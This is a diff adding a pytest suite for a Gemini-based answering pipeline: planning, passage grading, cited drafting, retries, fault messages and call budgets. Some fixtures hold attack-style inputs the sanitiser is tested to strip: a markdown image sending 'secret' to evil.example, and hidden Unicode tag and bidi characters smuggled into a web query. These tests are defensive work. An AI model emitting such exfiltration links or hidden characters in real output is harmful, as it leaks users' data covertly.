@@ -1,0 +1,845 @@
+"""The real Gemini client against a local server that speaks its protocol."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import subprocess
+import sys
+from dataclasses import replace
+from pathlib import Path
+
+import certifi
+import httpx
+import pytest
+from fakes.gemini import (
+    Blocked,
+    Body,
+    Cut,
+    FakeGemini,
+    Finish,
+    Hang,
+    Joined,
+    Status,
+    in_thread,
+)
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from core.chat_model import ChatModels
+from core.conversation import QUERY_LIMIT, QUESTION_LIMIT, Exchange, Usage
+from core.errors import ModelTrouble, SettingsError
+from core.library.documents import Passage, Retrieved
+from core.model import faults
+from core.model.calls import Limits
+from core.model.drafts import to_draft
+from core.model.providers import GOOGLE_URL, Access, connect, split_name
+from core.reasoner import Ask, Draft, Grade, Grades, Grounded, Plan, Strip
+
+# Google's client derives from aiohttp's session, which aiohttp discourages; neither is ours to change.
+pytestmark = pytest.mark.filterwarnings("ignore:Inheritance class Aiohttp:DeprecationWarning")
+
+ASK = Ask(question="How many files may I upload?")
+QUICK = Limits(pause=0.001)
+BUSY = "The model is busy."
+UNREACHABLE = "The model cannot be reached."
+UNREADABLE = "The model's reply could not be read."
+REFUSED = "The model refused this question."
+KEY_REFUSED = "The model key was refused."
+UNKNOWN = "The model is not known to its provider."
+SPENT = "The model calls of this question are used up."
+
+
+def found(text, number=1, url=None):
+    passage = Passage(
+        id=f"doc:{number}", collection="all", source="guide.md", title="Guide", path=("Uploads",),
+        location="Uploads", text=text, start=0, end=len(text), url=url,
+    )  # fmt: skip
+    return Retrieved(passage=passage, score=1.0)
+
+
+def strip(text, number=1, url=None):
+    return Strip(number=number, retrieved=found(text, number, url), text=text, start=0, end=len(text))
+
+
+PASSAGES = (
+    found("Uploads take at most five files. Each may have 2 MB.", 1),
+    found("Downloads have no bound. They are resumed after a fault.", 2),
+    found("Logs are kept for a week. Nobody reads them.", 3),
+)
+STRIPS = (strip("Uploads take at most five files.", 1), strip("Each may have 2 MB.", 2))
+
+
+@pytest.fixture(scope="module", autouse=True)
+def one_authority(tmp_path_factory):
+    """A certificate store of one: reading all of them for each client takes longer than its test."""
+    store = Path(certifi.where()).read_text(encoding="ascii", errors="ignore")
+    first = store[store.index("-----BEGIN") : store.index("-----END CERTIFICATE-----")]
+    small = tmp_path_factory.mktemp("certificates") / "one.pem"
+    small.write_text(f"{first}-----END CERTIFICATE-----\n")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("SSL_CERT_FILE", str(small))
+        yield
+
+
+@pytest.fixture
+async def gemini():
+    async with FakeGemini() as server:
+        yield server
+
+
+@pytest.fixture
+async def open_models():
+    """Opens models and closes them after the test."""
+    opened = []
+
+    def open_them(gemini, *, limits=QUICK, timeout=20.0, **names):
+        access = Access(google_api_key="test-key", google_url=gemini.base_url, timeout=timeout)
+        names = {
+            "chat_model": "gemini-3.5-flash",
+            "grader_model": "google_genai:gemini-3.5-flash-lite",
+            **names,
+        }
+        opened.append(ChatModels.open(access=access, limits=limits, **names))
+        return opened[-1]
+
+    yield open_them
+    for models in opened:
+        await models.aclose()
+
+
+@pytest.fixture
+def reasoner(gemini, open_models):
+    return open_models(gemini).reasoner(turn_timeout=60)
+
+
+# A turn that goes well
+
+
+async def test_plan_keeps_what_the_model_planned(gemini, reasoner):
+    gemini.queue(
+        "plan",
+        {
+            "route": "multi_hop", "standalone": "How many files may I upload at once?",
+            "queries": ["upload limit", "file count"], "web_query": "upload file limit", "reply": "", "options": [],
+        },
+    )  # fmt: skip
+    ask = Ask(question="how many?", history=(Exchange(question="Uploads?", answer="Yes.", author="ann"),))
+
+    plan = await reasoner.plan(ask)
+
+    assert plan == Plan(
+        route="multi_hop",
+        standalone="How many files may I upload at once?",
+        queries=("upload limit", "file count"),
+        web_query="upload file limit",
+    )
+    assert gemini.calls[0].blocks("earlier") == ["Uploads?", "Yes."]
+
+
+async def test_grade_maps_the_shuffled_passages_back(gemini, reasoner):
+    def about_uploads(_step, call):
+        verdicts = [
+            {
+                "passage": number,
+                "relevance": "correct" if "Uploads take" in text else "incorrect",
+                "evidence": [1],
+            }
+            for number, text in enumerate(call.blocks("passage"), start=1)
+        ]
+        return {"passages": verdicts, "sufficient": True, "missing": "nothing"}
+
+    gemini.reply = about_uploads
+
+    grades = await reasoner.grade(ASK, PASSAGES)
+
+    assert grades == Grades(
+        of={
+            "doc:1": Grade(relevance="correct", evidence=(1,)),
+            "doc:2": Grade(relevance="incorrect"),
+            "doc:3": Grade(relevance="incorrect"),
+        },
+        sufficient=True,
+    )
+    assert len(gemini.calls) == 1
+
+
+async def test_grade_of_nothing_asks_nobody(gemini, reasoner):
+    assert await reasoner.grade(ASK, ()) == Grades(sufficient=False)
+    assert await reasoner.check_grounding((), STRIPS) == Grounded()
+    assert gemini.calls == []
+
+
+async def test_insufficient_grades_say_what_is_missing_and_leave_out_what_was_not_graded(gemini, reasoner):
+    only_first = [{"passage": 1, "relevance": "ambiguous", "evidence": [2]}]
+    gemini.queue("grade", {"passages": only_first, "sufficient": False, "missing": "the size of a file"})
+
+    grades = await reasoner.grade(ASK, PASSAGES)
+
+    assert len(grades.of) == 1
+    assert grades.sufficient is False
+    assert grades.missing == "the size of a file"
+
+
+async def test_write_returns_markdown_that_cites_strips(gemini, reasoner):
+    gemini.queue("write", "At most **five**. [1] Each may have 2 MB. [2]")
+
+    draft = await reasoner.write(ASK, STRIPS, failing=("It is six.",))
+
+    assert draft == Draft(text="At most **five**. [1] Each may have 2 MB. [2]", composed=True)
+    assert gemini.calls[0].blocks("unsupported") == ["It is six."]
+
+
+@pytest.mark.parametrize("reply", ["NO_ANSWER", "**NO_ANSWER**\n", "`NO_ANSWER`."])
+async def test_the_writer_can_say_that_nothing_answers(gemini, reasoner, reply):
+    gemini.queue("write", reply)
+
+    draft = await reasoner.write(ASK, STRIPS)
+
+    assert draft == Draft(text="", composed=True, answers=False)
+
+
+async def test_the_checks_return_their_verdicts(gemini, reasoner):
+    gemini.queue("grounding", {"unsupported": [2]})
+    gemini.queue("usefulness", {"useful": False})
+
+    grounded = await reasoner.check_grounding(("At most five. [1]", "It is free. [2]"), STRIPS)
+    useful = await reasoner.check_usefulness(ASK, "At most five. [1]")
+
+    assert grounded == Grounded(unsupported=(2,))
+    assert useful is False
+    assert gemini.calls[0].blocks("question") == []
+
+
+async def test_one_model_writes_and_the_other_judges_and_both_are_asked_as_they_want_to_be(gemini, reasoner):
+    await reasoner.write(ASK, STRIPS)
+    await reasoner.check_usefulness(ASK, "Five. [1]")
+
+    assert [call.model for call in gemini.calls] == ["gemini-3.5-flash", "gemini-3.5-flash-lite"]
+    assert {call.config["thinkingConfig"]["thinking_level"] for call in gemini.calls} == {"LOW"}
+    assert gemini.rejected == []
+
+
+async def test_a_turn_costs_what_the_server_saw(gemini, reasoner):
+    gemini.queue("plan", Joined(2))
+    gemini.queue("grade", Joined(2))
+    gemini.queue("grounding", Joined(5))
+    gemini.queue("usefulness", Joined(5))
+
+    await asyncio.gather(reasoner.plan(ASK), reasoner.grade(ASK, PASSAGES))
+    await reasoner.write(ASK, STRIPS)
+    await asyncio.gather(
+        reasoner.check_grounding(("Five. [1]",), STRIPS), reasoner.check_usefulness(ASK, "Five. [1]")
+    )
+
+    usage = reasoner.usage
+    assert (usage.name, usage.calls, usage.round_trips) == ("gemini-3.5-flash", 5, 3)
+    assert gemini.round_trips == 3
+    assert usage.input_tokens == sum(len(call.prompt) // 4 for call in gemini.calls)
+    assert usage.output_tokens >= 5
+
+
+# Faults: what a person reads, and how often the model was asked
+
+FAULTS = {
+    "busy twice": ([Status(429), Status(429)], BUSY, 2),
+    "busy for longer than is worth waiting": ([Status(429, retry_delay="30s")], BUSY, 1),
+    "busy for longer, said by a header": ([Status(503, retry_after="120")], BUSY, 1),
+    "broken twice": ([Status(500), Status(503)], BUSY, 2),
+    "wrong key": ([Status(400, reason="API_KEY_INVALID")], KEY_REFUSED, 1),
+    "key of another project": ([Status(403)], KEY_REFUSED, 1),
+    "no key": ([Status(401)], KEY_REFUSED, 1),
+    "no such model": ([Status(404)], UNKNOWN, 1),
+    "request refused": ([Status(400)], REFUSED, 1),
+    "prompt blocked": ([Blocked()], REFUSED, 1),
+    "reply blocked": ([Finish("SAFETY")], REFUSED, 1),
+    "reply recited": ([Finish("RECITATION", "Some")], REFUSED, 1),
+    "cut off twice": ([Finish("MAX_TOKENS", '{"use')] * 2, UNREADABLE, 2),
+    "empty twice": ([Finish("STOP")] * 2, UNREADABLE, 2),
+    "no candidates twice": ([Body("{}")] * 2, UNREADABLE, 2),
+    "not JSON at all twice": ([Body('{"candidates": [')] * 2, UNREADABLE, 2),
+    "a list instead of an object twice": ([Body("[]")] * 2, UNREADABLE, 2),
+    "another shape twice": ([Body('{"candidates": 5}')] * 2, UNREADABLE, 2),
+    "a page of a proxy twice": ([Body("<html>Sign in</html>", "text/html")] * 2, UNREADABLE, 2),
+    "connection cut in the reply twice": ([Cut()] * 2, UNREACHABLE, 2),
+    "connection cut before it twice": ([Cut(before_headers=True)] * 2, UNREACHABLE, 2),
+}
+LASTING = {BUSY, KEY_REFUSED, UNKNOWN, UNREACHABLE}
+
+
+@pytest.mark.parametrize("step", ["usefulness", "write"])
+@pytest.mark.parametrize("fault", FAULTS.values(), ids=FAULTS.keys())
+async def test_a_fault_becomes_its_sentence(gemini, reasoner, step, fault):
+    answers, sentence, calls = fault
+    gemini.queue(step, *answers)
+
+    with pytest.raises(ModelTrouble) as trouble:
+        await ask_step(reasoner, step)
+
+    assert str(trouble.value) == sentence
+    assert len(gemini.calls) == reasoner.usage.calls == calls
+
+
+@pytest.mark.parametrize("step", ["usefulness", "write"])
+@pytest.mark.parametrize("fault", FAULTS.values(), ids=FAULTS.keys())
+async def test_only_a_fault_that_would_repeat_itself_ends_the_turns_calls(gemini, reasoner, step, fault):
+    answers, sentence, calls = fault
+    gemini.queue(step, *answers)
+    with pytest.raises(ModelTrouble, match=sentence):
+        await ask_step(reasoner, step)
+
+    if sentence in LASTING:
+        with pytest.raises(ModelTrouble, match=sentence):
+            await reasoner.plan(ASK)
+    else:
+        await reasoner.plan(ASK)
+
+    assert len(gemini.calls) == calls + (sentence not in LASTING)
+
+
+@pytest.mark.parametrize(
+    "first",
+    [
+        Status(429, retry_after="0"), Status(429, retry_delay="0.01s"), Status(500), Cut(), Cut(before_headers=True),
+        Body("{}"), Finish("MAX_TOKENS", "Fi"), Finish("STOP"),
+    ],
+    ids=repr,
+)  # fmt: skip
+async def test_a_second_try_saves_the_step(gemini, reasoner, first):
+    gemini.queue("write", first)
+
+    draft = await reasoner.write(ASK, STRIPS)
+
+    assert draft.text == "Uploads take at most five files. [1]"
+    assert (reasoner.usage.calls, reasoner.usage.round_trips, gemini.round_trips) == (2, 2, 2)
+
+
+@pytest.mark.parametrize(
+    ("reply", "complaint"),
+    [
+        ("Yes, it is.", "it was not a JSON object"),
+        ('{"useful": "yes"}', "useful: Input should be a valid boolean"),
+        ("{}", "useful: Field required"),
+        ("[true]", "Input should be a valid dictionary"),
+        ("null", "Input should be a valid dictionary"),
+    ],
+)
+async def test_a_malformed_reply_is_sent_back_with_the_complaint(gemini, reasoner, reply, complaint):
+    gemini.queue("usefulness", reply)
+
+    useful = await reasoner.check_usefulness(ASK, "Five. [1]")
+
+    assert useful is True
+    first, second = gemini.calls
+    assert complaint in second.prompt.removeprefix(first.prompt)
+    assert "Yes, it is." not in second.prompt
+
+
+async def test_a_model_that_hangs_is_left_alone_after_one_timeout(gemini, open_models):
+    reasoner = open_models(gemini, timeout=0.2).reasoner(turn_timeout=60)
+    gemini.reply = lambda _step, _call: Hang()
+
+    for step in ("plan", "write", "usefulness"):
+        with pytest.raises(ModelTrouble, match=r"^The model did not answer within 0\.2 s\.$"):
+            await ask_step(reasoner, step)
+
+    assert len(gemini.calls) == reasoner.usage.calls == 1
+
+
+async def test_calls_end_with_the_turns_time(gemini, open_models):
+    models = open_models(gemini)
+    gemini.reply = lambda _step, _call: Hang()
+
+    for seconds in (0.2, 0.0):
+        with pytest.raises(ModelTrouble, match=r"^The model did not answer in time\.$"):
+            await models.reasoner(turn_timeout=seconds).plan(ASK)
+
+    assert len(gemini.calls) == 1
+
+
+async def test_no_second_try_outlives_the_turn(gemini, open_models):
+    reasoner = open_models(gemini).reasoner(turn_timeout=1.5)
+    gemini.queue("plan", Status(429, retry_after="2"))
+
+    with pytest.raises(ModelTrouble, match=BUSY):
+        await reasoner.plan(ASK)
+
+    assert len(gemini.calls) == 1
+
+
+async def test_a_stopped_turn_stops_its_call(gemini, reasoner):
+    gemini.queue("plan", Hang())
+    turn = asyncio.create_task(reasoner.plan(ASK))
+    await gemini.until_calls(1)
+
+    turn.cancel()
+
+    with pytest.raises(asyncio.CancelledError):
+        await turn
+
+
+async def test_nobody_listens_there(open_models):
+    async with FakeGemini() as gone:
+        models = open_models(gone)
+
+    with pytest.raises(ModelTrouble, match=UNREACHABLE):
+        await models.reasoner(turn_timeout=60).plan(ASK)
+
+
+async def test_a_fault_is_logged_without_the_words_of_the_question(gemini, reasoner, caplog):
+    gemini.queue("usefulness", Status(400))
+    secret = Ask(question="What is Zebediah paid?")
+
+    with pytest.raises(ModelTrouble):
+        await reasoner.check_usefulness(secret, "Five. [1]")
+
+    assert "The model refused this question. (GoogleInvalidRequestError)" in caplog.text
+    assert "Zebediah" not in caplog.text
+
+
+# Budgets
+
+
+async def test_the_sixteenth_call_is_the_last(gemini, reasoner):
+    await asyncio.gather(*(reasoner.check_usefulness(ASK, "Five. [1]") for _ in range(16)))
+
+    with pytest.raises(ModelTrouble, match=SPENT):
+        await reasoner.plan(ASK)
+
+    assert len(gemini.calls) == reasoner.usage.calls == 16
+
+
+async def test_the_eleventh_round_trip_is_the_last(gemini, reasoner):
+    for _ in range(11):
+        await reasoner.check_usefulness(ASK, "Five. [1]")
+
+    with pytest.raises(ModelTrouble, match=SPENT):
+        await reasoner.plan(ASK)
+
+    assert len(gemini.calls) == reasoner.usage.round_trips == gemini.round_trips == 11
+
+
+async def test_second_tries_count(gemini, open_models):
+    reasoner = open_models(gemini, limits=Limits(calls=3, pause=0.001)).reasoner(turn_timeout=60)
+    gemini.reply = lambda _step, _call: Body("{}")
+
+    for sentence in (UNREADABLE, SPENT, SPENT):
+        with pytest.raises(ModelTrouble, match=sentence):
+            await reasoner.plan(ASK)
+
+    assert len(gemini.calls) == reasoner.usage.calls == 3
+
+
+async def test_each_turn_has_a_budget_of_its_own(gemini, open_models):
+    models = open_models(gemini, limits=Limits(calls=1))
+
+    for _ in range(2):
+        await models.reasoner(turn_timeout=60).plan(ASK)
+
+    assert models.reasoner(turn_timeout=60).usage == Usage(name="gemini-3.5-flash")
+    assert len(gemini.calls) == 2
+
+
+# What is kept of a reply
+
+
+def plan_reply(**changes):
+    plain = {
+        "route": "documents",
+        "standalone": "",
+        "queries": [],
+        "web_query": "",
+        "reply": "",
+        "options": [],
+    }
+    return {**plain, **changes}
+
+
+async def test_a_plan_without_its_words_is_a_search_for_the_question(gemini, reasoner):
+    gemini.queue("plan", plan_reply(route="clarify", options=["this", "that"]))
+
+    plan = await reasoner.plan(ASK)
+
+    assert plan == Plan(route="documents", standalone=ASK.question, web_query=ASK.question)
+
+
+async def test_a_question_asked_back_keeps_its_few_readings(gemini, reasoner):
+    options = ["Request cookies", "Response cookies", "Request cookies", " ", "x" * 200, "a", "b", "c"]
+    gemini.queue("plan", plan_reply(route="clarify", reply="Which cookies?", options=options))
+
+    plan = await reasoner.plan(ASK)
+
+    assert plan.reply == "Which cookies?"
+    assert plan.options == ("Request cookies", "Response cookies", "x" * 70, "a")
+
+
+async def test_a_web_query_hides_nothing_from_whoever_allows_it(gemini, reasoner):
+    tags = "".join(chr(0xE0000 + ord(c)) for c in "secret")
+    gemini.queue("plan", plan_reply(web_query=f"upload\u202e limit\x00\nof{tags} files " + "word " * 200))
+
+    plan = await reasoner.plan(ASK)
+
+    assert plan.web_query.startswith("upload limit of files word word")
+    assert plan.web_query.isprintable()
+    assert QUERY_LIMIT - 5 <= len(plan.web_query) <= QUERY_LIMIT
+
+
+async def test_numbers_that_name_nothing_are_dropped(gemini, reasoner):
+    verdicts = [
+        {"passage": 0, "relevance": "correct", "evidence": [1]},
+        {"passage": 1, "relevance": "correct", "evidence": [9, 2, -1, 2, 1, 0]},
+        {"passage": 1, "relevance": "incorrect", "evidence": []},
+        {"passage": 7, "relevance": "correct", "evidence": [1]},
+    ]
+    gemini.queue("grade", {"passages": verdicts, "sufficient": True, "missing": ""})
+    gemini.queue("grounding", {"unsupported": [3, 0, 2, 2, -4]})
+
+    grades = await reasoner.grade(ASK, PASSAGES)
+    grounded = await reasoner.check_grounding(("One. [1]", "Two. [1]"), STRIPS)
+
+    assert list(grades.of.values()) == [Grade(relevance="correct", evidence=(1, 2))]
+    assert grounded.unsupported == (2,)
+
+
+async def test_irrelevant_passages_are_never_sufficient(gemini, reasoner):
+    verdicts = [{"passage": n, "relevance": "incorrect", "evidence": [1]} for n in (1, 2, 3)]
+    gemini.queue("grade", {"passages": verdicts, "sufficient": True, "missing": ""})
+
+    grades = await reasoner.grade(ASK, PASSAGES)
+
+    assert grades.sufficient is False
+    assert {grade.evidence for grade in grades.of.values()} == {()}
+
+
+KNOWN = strip("See https://example.org/a and [the guide](guide.md).", 1, "https://example.org/page")
+
+
+@pytest.mark.parametrize(
+    ("written", "kept"),
+    [
+        ("Five. [1][7] More. [9]", "Five. [1] More."),
+        ("Five. [1, 2; 9] So.", "Five. [1][2] So."),
+        ("Use `items[7]` here. [1]", "Use `items[7]` here. [1]"),
+        ("```py\nx[7] = 1 # https://evil.example\n```", "```py\nx[7] = 1 # https://evil.example\n```"),
+        ("![x](https://evil.example/?q=secret) Five. [1]", "x Five. [1]"),
+        ("![x](https://example.org/a) Five. [1]", "x Five. [1]"),
+        ("Go [here](https://evil.example). [1]", "Go here. [1]"),
+        ("Five [1](https://evil.example).", "Five [1]."),
+        ("See [the guide](guide.md). [1]", "See [the guide](guide.md). [1]"),
+        ("See https://example.org/a. [1]", "See https://example.org/a. [1]"),
+        ("See <https://example.org/page>. [1]", "See <https://example.org/page>. [1]"),
+        ("See https://evil.example/a, [1]", "See  [1]"),
+        ("NO_ANSWER\n\nThe strips are about uploads. [1]", "The strips are about uploads. [1]"),
+        ("A\u200b\u202eB\x07 \U0001f468\u200d\U0001f469 [1]", "AB  \U0001f468\u200d\U0001f469 [1]"),
+    ],
+)
+def test_a_draft_keeps_only_marks_and_addresses_that_its_strips_hold(written, kept):
+    draft = to_draft(written, (KNOWN, strip("Each may have 2 MB.", 2)))
+
+    assert draft.text == kept
+    assert draft.answers is ("NO_ANSWER" not in written)
+
+
+# Nothing but usable values or ModelTrouble comes out, whatever the model replies
+
+JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
+    max_leaves=12,
+)
+NUMBERS = st.lists(st.integers(-3, 9) | st.integers(), max_size=6)
+TEXT = st.text(max_size=60) | st.sampled_from(["x" * 9_000, "word " * 2_000, "\x00\u202e", "[1] [9]"])
+SHAPED = st.fixed_dictionaries(
+    {
+        "route": st.sampled_from(["none", "documents", "multi_hop", "web", "clarify", "sideways"]),
+        "standalone": TEXT, "queries": st.lists(TEXT, max_size=6), "web_query": TEXT, "reply": TEXT,
+        "options": st.lists(TEXT, max_size=6),
+        "passages": st.lists(
+            st.fixed_dictionaries(
+                {
+                    "passage": st.integers(-2, 6),
+                    "relevance": st.sampled_from(["correct", "ambiguous", "incorrect", "so-so"]),
+                    "evidence": NUMBERS,
+                }
+            ),
+            max_size=5,
+        ),
+        "sufficient": st.booleans(), "missing": TEXT, "unsupported": NUMBERS, "useful": st.booleans(),
+    }
+)  # fmt: skip
+REPLIES = st.one_of(
+    SHAPED,
+    SHAPED.map(lambda shaped: json.dumps(shaped)[:-1]),
+    JSON.map(json.dumps),
+    TEXT,
+    JSON.map(lambda body: Body(json.dumps(body))),
+    st.builds(lambda body: Body(json.dumps({"candidates": [body], "promptFeedback": body})), JSON),
+    st.builds(Finish, st.sampled_from(["STOP", "SAFETY", "MAX_TOKENS", "OTHER", "NEW_REASON"]), TEXT),
+)
+
+
+@pytest.fixture(scope="module")
+def loop():
+    """One event loop for the examples of a property, so that the client keeps its connections."""
+    with asyncio.Runner() as runner:
+        gemini = runner.run(FakeGemini().__aenter__())
+        access = Access(google_api_key="test-key", google_url=gemini.base_url, timeout=20)
+        models = ChatModels.open(
+            chat_model="gemini-3.5-flash", grader_model="gemini-3.5-flash-lite", access=access, limits=QUICK
+        )
+        yield runner, gemini, models
+        runner.run(models.aclose())
+        runner.run(gemini.__aexit__())
+
+
+@settings(max_examples=30, deadline=None)
+@given(reply=REPLIES)
+def test_whatever_the_model_replies_can_be_used_or_is_trouble(loop, reply):
+    runner, gemini, models = loop
+    gemini.reply = lambda _step, _call: reply
+
+    async def turn():
+        reasoner = models.reasoner(turn_timeout=60)
+        steps = ("plan", "grade", "write", "grounding", "usefulness")
+        return await asyncio.gather(*(ask_step(reasoner, step) for step in steps), return_exceptions=True)
+
+    results = runner.run(turn())
+
+    for result, is_usable in zip(results, USABLE, strict=True):
+        assert isinstance(result, ModelTrouble) or is_usable(result)
+
+
+def is_usable_plan(plan):
+    one_liners = (plan.standalone, plan.web_query, plan.reply, *plan.queries, *plan.options)
+    return (
+        bool(plan.standalone and plan.web_query)
+        and len(plan.standalone) <= QUESTION_LIMIT
+        and len(plan.queries) <= 3
+        and all(len(query) <= QUERY_LIMIT for query in (plan.web_query, *plan.queries))
+        and not any(character in text for text in one_liners for character in "\n\r\t\x00\u202e")
+        and (bool(plan.reply) == (plan.route in ("none", "clarify")))
+    )
+
+
+def is_usable_draft(draft):
+    return len(draft.text) <= 8_000 and "\x00" not in draft.text and bool(draft.text or not draft.answers)
+
+
+def are_usable_grades(grades):
+    numbers = {number for grade in grades.of.values() for number in grade.evidence}
+    return set(grades.of) <= {"doc:1", "doc:2", "doc:3"} and numbers <= {1, 2}
+
+
+USABLE = (
+    is_usable_plan,
+    are_usable_grades,
+    is_usable_draft,
+    lambda grounded: set(grounded.unsupported) <= {1, 2},
+    lambda useful: isinstance(useful, bool),
+)
+
+
+def ask_step(reasoner, step):
+    return {
+        "plan": lambda: reasoner.plan(ASK),
+        "grade": lambda: reasoner.grade(ASK, PASSAGES),
+        "write": lambda: reasoner.write(ASK, STRIPS),
+        "grounding": lambda: reasoner.check_grounding(("Five. [1]", "Free. [2]"), STRIPS),
+        "usefulness": lambda: reasoner.check_usefulness(ASK, "Five. [1]"),
+    }[step]()
+
+
+# Providers and settings
+
+
+class ProviderError(Exception):
+    """As most providers' clients raise it."""
+
+    def __init__(self, status_code, **headers):
+        super().__init__("told to nobody")
+        self.status_code = status_code
+        self.response = httpx.Response(status_code, headers=headers)
+
+
+def caused_by(error):
+    outer = RuntimeError("told to nobody")
+    outer.__cause__ = error
+    return outer
+
+
+REQUEST = httpx.Request("POST", "http://127.0.0.1:9")
+
+
+@pytest.mark.parametrize(
+    ("error", "fault"),
+    [
+        (ProviderError(401), faults.KEY_REFUSED),
+        (ProviderError(429, **{"retry-after": "3"}), replace(faults.BUSY, pause=3.0)),
+        (ProviderError(529, **{"retry-after": "Wed, 21 Oct 2026 07:28:00 GMT"}), faults.BUSY),
+        (httpx.HTTPStatusError("", request=REQUEST, response=httpx.Response(503)), faults.BUSY),
+        (caused_by(httpx.ConnectError("")), faults.UNREACHABLE),
+        (caused_by(httpx.ReadTimeout("")), faults.SILENT),
+        (caused_by(ConnectionResetError()), faults.UNREACHABLE),
+        (NotImplementedError(), faults.UNREADABLE),
+    ],
+    ids=repr,
+)
+def test_the_faults_of_any_provider_are_told_apart(error, fault):
+    assert faults.diagnose(error) == fault
+
+
+def test_a_models_name_may_hold_a_colon_and_a_bare_name_is_googles():
+    assert split_name("ollama:llama3:8b") == ("ollama", "llama3:8b")
+    assert split_name("gemini-3.5-flash") == ("google_genai", "gemini-3.5-flash")
+
+
+@pytest.mark.parametrize(
+    ("name", "key", "sentence"),
+    [
+        ("openai:gpt-5", "k", "CHAT_MODEL=openai:gpt-5 needs a package: pip install langchain-openai."),
+        (
+            "anthropic:claude",
+            "",
+            "CHAT_MODEL=anthropic:claude needs a package: pip install langchain-anthropic.",
+        ),
+        ("nobody:model", "k", "CHAT_MODEL=nobody:model cannot be used: check its provider and key."),
+        ("gemini-3.5-flash", "", "CHAT_MODEL=gemini-3.5-flash needs GOOGLE_API_KEY."),
+    ],
+)
+def test_a_model_that_cannot_be_opened_says_what_to_do(name, key, sentence):
+    with pytest.raises(SettingsError) as fault:
+        connect("CHAT_MODEL", name, Access(google_api_key=key))
+
+    assert str(fault.value) == sentence
+
+
+async def test_an_older_model_gets_no_thinking_level(gemini, open_models):
+    models = open_models(gemini, grader_model="gemini-2.5-flash")
+
+    await models.reasoner(turn_timeout=60).plan(ASK)
+
+    assert "thinkingConfig" not in gemini.calls[0].config
+
+
+def test_no_gateway_of_the_environment_takes_googles_place(monkeypatch):
+    monkeypatch.setenv("LANGSMITH_GATEWAY", "http://127.0.0.1:9")
+    monkeypatch.setenv("LANGSMITH_GATEWAY_API_KEY", "other-key")
+
+    model = connect("CHAT_MODEL", "gemini-3.5-flash", Access(google_api_key="test-key"))
+
+    assert model.base_url == GOOGLE_URL
+    assert model.google_api_key.get_secret_value() == "test-key"
+
+
+WARNINGS = ("-W", "error", "-W", "ignore:Inheritance class Aiohttp:DeprecationWarning")
+
+
+def run_turn(base_url, *, before="", **environment):
+    """One plan in a process of its own; what it says of it."""
+    script = f"""
+import asyncio, sys
+{before}
+from core.chat_model import ChatModels
+from core.errors import ModelTrouble
+from core.model import faults
+from core.model.calls import Limits
+from core.model.providers import Access
+from core.reasoner import Ask
+from langchain_core.tracers.langchain import wait_for_all_tracers
+
+async def turn():
+    access = Access(google_api_key="test-key", google_url={base_url!r}, timeout=5)
+    models = ChatModels.open(
+        chat_model="gemini-3.5-flash", grader_model="gemini-3.5-flash-lite", access=access, limits=Limits(pause=0.001)
+    )
+    for _ in range(int(sys.argv[1])):
+        try:
+            print((await models.reasoner(turn_timeout=30).plan(Ask(question="What is Zebediah paid?"))).route)
+        except ModelTrouble as trouble:
+            print(trouble)
+    await models.aclose()
+
+asyncio.run(turn())
+wait_for_all_tracers()
+"""
+
+    def run(turns):
+        return subprocess.run(
+            [sys.executable, *WARNINGS, "-c", script, str(turns)],
+            cwd=Path(__file__).parents[1], env={**os.environ, **environment}, capture_output=True, text=True,
+            timeout=60, check=False,
+        )  # fmt: skip
+
+    return run
+
+
+def test_without_aiohttp_the_other_transport_meets_the_same_faults():
+    faults = [
+        Status(429, retry_after="60"), Status(400, reason="API_KEY_INVALID"), Cut(), Cut(),
+        Cut(before_headers=True), Cut(before_headers=True), Body("{}"), Body("nonsense"),
+    ]  # fmt: skip
+    with in_thread(FakeGemini()) as gemini:
+        gemini.queue("plan", *faults)
+
+        done = run_turn(gemini.base_url, before="sys.modules['aiohttp'] = None")(6)
+
+    assert done.stdout.splitlines() == [BUSY, KEY_REFUSED, UNREACHABLE, UNREACHABLE, UNREADABLE, "documents"]
+    assert done.returncode == 0
+
+
+def test_a_call_is_not_traced_even_where_tracing_was_switched_on_later():
+    with in_thread(FakeGemini()) as gemini, in_thread(FakeGemini()) as elsewhere:
+        done = run_turn(
+            gemini.base_url,
+            before="import core, os; os.environ['LANGSMITH_TRACING_V2'] = 'true'",
+            LANGSMITH_ENDPOINT=elsewhere.base_url,
+            LANGSMITH_API_KEY="k",
+        )(1)
+
+    assert done.stdout == "documents\n"
+    assert len(gemini.calls) == 1
+    assert elsewhere.rejected == []
+
+
+# The local server keeps Gemini's contract
+
+
+async def test_the_server_streams_as_gemini_does(gemini):
+    model = connect(
+        "CHAT_MODEL", "gemini-3.5-flash", Access(google_api_key="test-key", google_url=gemini.base_url)
+    )
+    streaming = model.model_copy(update={"disable_streaming": False})
+
+    chunks = [chunk.text async for chunk in streaming.astream("Hello there")]
+    await model.aclose()
+
+    assert "".join(chunks) == "NO_ANSWER"
+    assert len([chunk for chunk in chunks if chunk]) == 2
+
+
+async def test_the_server_embeds_texts_so_that_shared_words_lie_close(gemini):
+    from langchain_google_genai import GoogleGenerativeAIEmbeddings
+
+    embeddings = GoogleGenerativeAIEmbeddings(
+        model="gemini-embedding-001", google_api_key="test-key", base_url=gemini.base_url
+    )
+
+    near, far = await embeddings.aembed_documents(["upload five files", "logs kept weekly"])
+    query = await embeddings.aembed_query("how many files to upload")
+
+    assert sum(a * b for a, b in zip(query, near, strict=True)) > sum(
+        a * b for a, b in zip(query, far, strict=True)
+    )
+    assert gemini.embedded == ["upload five files", "logs kept weekly", "how many files to upload"]
+
+
+async def test_the_server_refuses_what_gemini_would_refuse(gemini):
+    access = Access(google_api_key="wrong-key", google_url=gemini.base_url)
+    models = ChatModels.open(chat_model="gemini-3.5-flash", grader_model="gemini-3.5-flash", access=access)
+
+    with pytest.raises(ModelTrouble, match=KEY_REFUSED):
+        await models.reasoner(turn_timeout=60).plan(ASK)
+    await models.aclose()
+
+    assert gemini.rejected == ["API key not valid."]
